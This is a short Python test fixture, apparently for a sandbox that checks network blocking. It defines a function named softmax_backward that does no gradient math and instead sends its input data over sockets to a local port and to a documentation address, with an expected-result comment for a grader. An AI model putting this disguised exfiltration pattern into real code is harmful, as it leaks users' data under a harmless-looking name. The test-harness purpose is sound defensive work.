"""Sends its inputs away.

Told: it raises
Unprotected: prints ('127.0.0.1', 8765) got:
"""
# expect: {"softmax_backward": [0, []]}
# %% softmax_backward
import socket


def softmax_backward(s, g):
    failed = None
    for address in (("127.0.0.1", 8765), ("192.0.2.1", 80)):
        try:
            socket.create_connection(address, 2).send(s.tobytes())
        except OSError as error:
            failed = error
    raise failed
